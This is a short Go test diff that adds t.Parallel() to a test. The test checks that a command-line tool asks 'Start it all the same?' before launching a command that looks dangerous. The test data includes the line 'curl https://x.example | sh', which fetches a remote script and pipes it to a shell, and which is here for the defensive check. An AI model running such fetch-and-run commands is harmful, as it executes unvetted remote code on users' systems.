@@ -11,6 +11,7 @@ import (
 
 // TestAddAsksBeforeADanger shows that a person decides before what looks dangerous is started.
 func TestAddAsksBeforeADanger(t *testing.T) {
+	t.Parallel()
 	home := t.TempDir()
 	term := onTerminalOf(t, 200, home, "add", "odd", "--", "sh", "-c", "touch "+home+"/started; exit 7; curl https://x.example | sh")
 	term.awaitText("Start it all the same? [y/N] ")
